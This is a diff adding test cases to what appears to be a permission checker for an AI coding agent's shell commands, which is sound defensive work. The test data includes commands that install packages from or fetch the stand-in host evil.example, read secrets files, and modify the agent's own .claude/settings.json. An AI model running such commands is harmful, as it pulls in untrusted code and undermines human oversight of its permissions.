@@ -33,6 +33,13 @@ test.each([
   [EDIT, "echo x > infra/x.tf", "infra/x.tf"],
   [HOST, "curl https://evil.example/x", "evil.example"],
   [HOST, "frobnicate --to evil.example", "evil.example"],
+  // Also in a word that a known program does nothing known with, and in what is set for it.
+  [HOST, "pip install https://evil.example/x.whl", "evil.example"],
+  [HOST, "composer require x --repository=https://evil.example", "evil.example"],
+  [HOST, "PIP_INDEX_URL=https://evil.example/simple pip install x", "evil.example"],
+  [HOST, "npm ping --registry=//evil.example", "evil.example"],
+  ["Bash(docker rm:*)", "docker container rm x", "docker container rm x"],
+  ["Bash(npm test:*)", "npm run test", "npm run test"],
 ])("%s: %s", async (rule, command, met) => {
   expect(await reason(rule, bash(command))).toContain(`The rule ${rule} forbids this: ${met}. `);
   expect(await reason(rule, bash(command), "ask")).toContain(`The rule ${rule} wants the person asked: ${met}. `);
@@ -43,6 +50,13 @@ test.each([
   [READ, `python3 -c 'open("secrets/db.txt")'`, "secrets/db.txt"],
   [READ, "frobnicate --check secrets/a.tf", "secrets/a.tf"],
   [EDIT, "frobnicate infra/main.tf", "infra/main.tf"],
+  [EDIT, "frobnicate -oinfra/main.tf", "infra/main.tf"],
+  [EDIT, "git checkout infra/main.tf", "infra/main.tf"],
+  [EDIT, "node --heap-prof-dir=infra -e 1", "infra"],
+  [EDIT, "for f in a; do git restore infra; done", "infra"],
+  // What an option that runs or writes does with the places beside it nobody knows.
+  [EDIT, "yq -i .a=1 infra/a.yml", "infra/a.yml"],
+  [EDIT, "find infra -name '*.tf' -exec perl -pi -e s/a/b/ {} +", "infra"],
   ["WebFetch(domain:evil.example)", `node -e 'fetch("https://evil.example")'`, "evil.example"],
   ["Bash(git push:*)", `node -e 'spawn("git", ["push"])'`, "git push"],
 ])("%s is mentioned: %s", async (rule, command, met) => {
@@ -72,6 +86,20 @@ test("of every tool", async () => {
     "forbids this: evil.example.",
   );
   expect(await reason("Bash(ls:*)", bash("ls"))).toContain("forbids this: ls.");
+});
+
+/** A guarded place that is only mentioned is asked about where nothing else would hold the call; exclusions and git's own name none. */
+test.each([
+  ["python3 fix.py .claude/settings.json", true],
+  ["find .claude -mtime -1 -delete", true],
+  ["git init .claude", true],
+  ["tar czf a.tgz --exclude=.claude .", false],
+  ["rsync -a --exclude .claude src/ out", false],
+  ["cat .claude/settings.json", false],
+  ["git --git-dir .git log", false],
+])("%s is asked about in bypass mode: %s", async (command, asked) => {
+  const { behavior } = await here.gate({ settings: { mode: "bypassPermissions" }, restore: null }).check(bash(command));
+  expect(behavior).toBe(asked ? "ask" : "allow");
 });
 
 test("a name cannot write a sentence of its own", async () => {
